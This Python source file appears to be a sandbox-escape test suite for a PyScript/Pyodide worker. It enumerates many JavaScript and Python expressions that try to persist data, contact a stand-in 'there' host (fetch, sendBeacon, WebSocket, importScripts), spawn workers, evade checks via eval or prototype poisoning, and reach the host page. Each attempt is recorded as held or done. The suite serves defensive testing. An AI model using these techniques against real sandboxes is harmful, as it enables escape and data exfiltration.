"""Ways out of Python's worker, for a reader's code that has `js` at hand: each keeps something, or reaches something."""

import json

NAMES = """caches indexedDB fetch fetchLater XMLHttpRequest WebSocket WebSocketStream EventSource WebTransport Worker SharedWorker
importScripts BroadcastChannel cookieStore FontFace fonts Notification webkitRequestFileSystem webkitRequestFileSystemSync
webkitResolveLocalFileSystemURL webkitResolveLocalFileSystemSyncURL CacheStorage Cache IDBFactory IDBDatabase StorageManager
StorageBucketManager FileSystemHandle FileSystemFileHandle FileSystemDirectoryHandle FileSystemSyncAccessHandle LockManager
ServiceWorkerContainer ServiceWorkerRegistration ServiceWorker RTCPeerConnection PushManager PaymentManager SyncManager URL
Request Response WritableStream ReportingObserver PerformanceObserver createImageBitmap ShadowRealm close""".split()
"""Classes, functions and objects of a worker's that a reader's code must not find."""
NATIVE = """fetch open send createObjectURL getDirectory sendBeacon register put createSyncAccessHandle postTask getUserMedia
requestPermission importScripts set request connect""".split()
"""Native functions that must not be reached from anything that is there, whatever way; Map, Set and their like apart."""

WAYS = {
    "cache": "(await caches.open('evil')).put(own, new Response('evil'))",
    "cache match": "caches.match(own).then(one => one.text())",
    "indexedDB": "new Promise((done, no) => Object.assign(indexedDB.open('evil'), { onsuccess: done, onerror: no }))",
    "private files": "(await navigator.storage.getDirectory()).getFileHandle('evil', { create: true })",
    "persist": "navigator.storage.persist()",
    "buckets": "navigator.storageBuckets.open('evil')",
    "old file system": "webkitRequestFileSystemSync(0, 99).root.getFile('evil', { create: true })",
    "cookie": "cookieStore.set('evil', '1')",
    "lock": "new Promise(done => navigator.locks.request('evil', done))",
    "fetch": "fetch(there + 'fetch', { mode: 'no-cors' })",
    "fetch at home": "fetch(own + '?evil', { method: 'POST' })",
    "request": "(() => { const one = new XMLHttpRequest(); one.open('GET', there + 'xhr', false); one.send(); })()",
    "socket": "new WebSocket(there.replace('http', 'ws') + 'socket')",
    "socket stream": "new WebSocketStream(there.replace('http', 'ws') + 'socket')",
    "events": "new EventSource(there + 'events')",
    "transport": "new WebTransport(there.replace('http', 'https'))",
    "beacon": "navigator.sendBeacon(there + 'beacon', 'all')",
    "peer": "new RTCPeerConnection().createOffer()",
    "font": "new FontFace('evil', `url(${there}font)`).load()",
    "filter": "Object.assign(new OffscreenCanvas(9, 9).getContext('2d'), { filter: `url(${there}filter#a)` }).fillRect(0, 0, 9, 9)"
    " ?? no()",
    "notification": "new Notification('evil')",
    "scripts": "importScripts(there + 'scripts.js')",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${there}nested')`])))",
    "worker of data": "new Worker(`data:text/javascript,fetch('${there}data')`)",
    "shared worker": "new SharedWorker(own)",
    "service worker": "navigator.serviceWorker.register(own + 'sw.js')",
    "update": "navigator.serviceWorker.getRegistration().then(one => one.update())",
    "other tabs": "new BroadcastChannel('evil').postMessage('all')",
    "module elsewhere": "import(there + 'module.js')",
    "module of JSON": "import(there + 'module.json', { with: { type: 'json' } })",
    "module of data": "import('data:text/javascript,export default 1')",
    "module of a blob": "import(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' })))",
    "streaming": "WebAssembly.compileStreaming(there + 'streaming.wasm')",
    "navigation": "(() => { location.href = there + 'navigation'; no(); })()",
    "navigating": "location.assign(there + 'navigation')",
    "window": "clients.openWindow(there + 'window')",
    "realm": "new ShadowRealm().evaluate('fetch')",
    "function": "Function('there', 'return fetch(there)')(there + 'function')",
    "generator": "(async () => {}).constructor('there', 'return fetch(there)')(there + 'generator')",
    "indirect eval": "(0, eval)('fetch')(there + 'eval')",
    "deleted": "delete globalThis.fetch && fetch(there + 'deleted')",
    "getter": "(() => { for (let one = self; one; one = Object.getPrototypeOf(one)) {"
    " const its = Object.getOwnPropertyDescriptor(one, 'caches'); if (its) return its.value ?? its.get.call(self); } no(); })()",
    "by name": "NAMES.filter(name => name in globalThis).length || no()",
    "navigator": "Object.keys(Object.getOwnPropertyDescriptors(WorkerNavigator.prototype)).filter(name => "
    "!/^(constructor|language|languages|maxTouchPoints|platform|userAgent)$/.test(name)).length || no()",
    "what is reached": "reached().join() || no()",
    "a part elsewhere": "whole(downhillBytes({ url: evil, bytes: 1, name: 'cold' }))",
    "a part by an address": "whole(downhillBytes(evil))",
    "a part that becomes one": "whole(downhillBytes({ toString: () => evil }))",
    "a part of the prototype": "(() => { Object.prototype.evil = evil;"
    " try { return whole(downhillBytes('evil')); } finally { delete Object.prototype.evil; } })()",
    "another table": "(() => { const kept = downhillParts.svg.url; downhillParts.svg.url = evil;"
    " downhillBytes('svg'); downhillParts.svg.url = kept; no(); })()",
    "its module": "(await module('worker/fetch-now.js')).bytesNow(there + 'module')",
    "its module anew": "(await module('worker/fetch-now.js?2')).bytesNow('svg')",
    "fetching module": "(await module('shared/load.js')).request(there + 'load')",
    "lasting module": "(await module('shared/lasting.js')).lasting(there + 'lasting')",
    "stream module": "(await module('shared/stream.js')).open({ url: there + 'stream' })",
    "cache module": "(await module('worker/core-cache.js')).forgetCores()",
    "file module": "(await module('worker/snapshot-file.js')).keep(() => {})",
    "keeping module": "import(boot + 'worker/snapshot-cache-worker.js?2').then(() => no())",
    "poison": "poisoned()",
}
"""Expressions of JavaScript; each throws where nothing is to be had."""

PYTHON = {
    "page": "polyscript.ffi.evaluate(js.eval('() => { document.title = `evil` }')); no()",
    "page's things": "polyscript.ffi.assign(polyscript.ffi.evaluate(js.eval('() => document')), js.Object.new()); no()",
    "page's calls": "polyscript.xworker.sync.evil(1); no()",
    "page's window": "polyscript.xworker.window.document.title",
    "pyfetch": "pyodide.http.pyxhr.get(there + 'pyxhr')",
    "open_url": "pyodide.http.open_url(there + 'open')",
    "databases": "pyodide_js.FS.filesystems.IDBFS.indexedDB().open('evil')",
    "storage": "polyscript.IDBMap.new('evil').set('a', 1); no()",
}
"""Statements of Python."""

SCRIPT = """(async (own, there, boot) => {
    const evil = own + "evil"; // what would be asked of this host
    const no = () => { throw new Error("nothing"); };
    const whole = (found) => (typeof found === "string" ? no() : found);
    const module = (path) => import(boot + path);
    const NAMES = %(names)s, NATIVE = %(native)s;

    function reached() {
        const seen = new Set(), found = [], told = Function.prototype.toString;
        const apart = new Set([Map, Set, WeakMap, WeakSet, FinalizationRegistry, MessagePort, Reflect, Int8Array, WebAssembly.Table].flatMap(one =>
            Object.values(Object.getOwnPropertyDescriptors(one.prototype ?? one)).map(({ value }) => value)));
        apart.add(Object.getPrototypeOf(Int8Array.prototype).set);
        const waiting = [globalThis, navigator, new OffscreenCanvas(1, 1).getContext("2d"), new MessageChannel(), new Blob([])];
        while (waiting.length) {
            const one = waiting.pop();
            if (one === null || !/object|function/.test(typeof one) || seen.has(one)) continue;
            seen.add(one);
            let own = {};
            try {
                own = Object.getOwnPropertyDescriptors(one);
                waiting.push(Object.getPrototypeOf(one));
            } catch {} // a proxy of Python's that is gone
            if (typeof one === "function" && own.name && /native code/.test(told.call(one)) && !apart.has(one))
                if (NAMES.includes(own.name.value) || NATIVE.includes(own.name.value)) found.push(own.name.value);
            for (const its of Object.values(own)) waiting.push(its.value, its.get, its.set);
        }
        return found;
    }

    function poisoned() {
        const { apply } = Reflect, { toString } = Function.prototype, plain = [];
        let got = "";
        const look = (one) => {
            if (typeof one === "function" ? /XMLHttp|(open|send)\\(/.test(apply(toString, one, []))
                : one instanceof EventTarget && !(one instanceof MessagePort) && one !== self) got += "something";
        };
        const set = (where, name, its) => {
            const before = Object.getOwnPropertyDescriptor(where, name);
            plain.push([where, name, before && { __proto__: null, ...before }]);
            Object.defineProperty(where, name, { __proto__: null, configurable: true, ...its });
        };
        for (const [where, ...names] of [[Reflect, "apply", "construct"], [Function.prototype, "call", "apply", "bind"],
            [Array.prototype, Symbol.iterator], [Object, "freeze"], [Promise.prototype, "then"]])
            for (const name of names) {
                const its = where[name];
                set(where, name, { writable: true, value(...all) { look(this); look(all[0]); look(all[1]); return apply(its, this, all); } });
            }
        for (const name of ["open", "send", "status", "response", "responseType", "0", "1", "get", "then", "onload"])
            set(Object.prototype, name, { get() { look(this); }, set(value) { look(this); look(value); } });
        set(Error, "prepareStackTrace", { value(_, sites) { for (const one of sites) { look(one.getThis()); look(one.getFunction()); } } });
        try {
            downhillBytes("svg");
            downhillBytes("nothing");
        } finally {
            for (let i = plain.length; i--;) {
                const where = plain[i][0], name = plain[i][1], before = plain[i][2];
                before ? Object.defineProperty(where, name, before) : delete where[name];
            }
        }
        return got || no();
    }

    const tried = {};
    const late = () => new Promise((_, refuse) => setTimeout(refuse, 400, "late"));
    for (const [name, way] of Object.entries(%(ways)s)) {
        try {
            await Promise.race([eval(`(async () => (${way}))()`), late()]);
            tried[name] = "done";
        } catch {
            tried[name] = "held";
        }
    }
    postMessage(["tried", tried]);
})"""

IN_PYTHON = """

def tried(way, **names):
    def no():
        raise LookupError("nothing")
    import polyscript, pyodide, pyodide.http, pyodide_js
    try:
        exec(way, {**names, **locals(), "js": js})
    except BaseException as error:
        return "held"
    return "done"

def told(event):
    if event.data != "try":
        return handler.receive(event)
    own, there, boot = %(places)r
    outcomes = {name: tried(way, there=there) for name, way in %(ways)r.items()}
    js.downhillTried = ffi.to_js(outcomes, dict_converter=js.Object.fromEntries)
    js.eval(%(script)r)(own, there, boot)

xworker.onmessage = told
"""


def script() -> str:
    """A function of JavaScript that tries all ways and posts the outcome of each, by its name."""
    fields = {"names": NAMES, "native": NATIVE, "ways": WAYS}
    return SCRIPT % {name: json.dumps(value) for name, value in fields.items()}


TRY = """() => {
    const { xworker } = document.querySelector("script[worker]");
    xworker.addEventListener("message", ({ data }) => data?.[0] === "tried" && (window.tried = data[1]));
    xworker.postMessage("try");
}"""
"""Has the worker of a live page run the program; the outcome will be `tried`."""


def program(own: str, there: str, boot: str) -> str:
    """What a reader's program does that was handed `js`, when the page says `TRY`."""
    both = script().replace("tried]);", "{ ...tried, ...downhillTried }]);")
    return IN_PYTHON % {"places": (own, there, boot), "ways": PYTHON, "script": both}
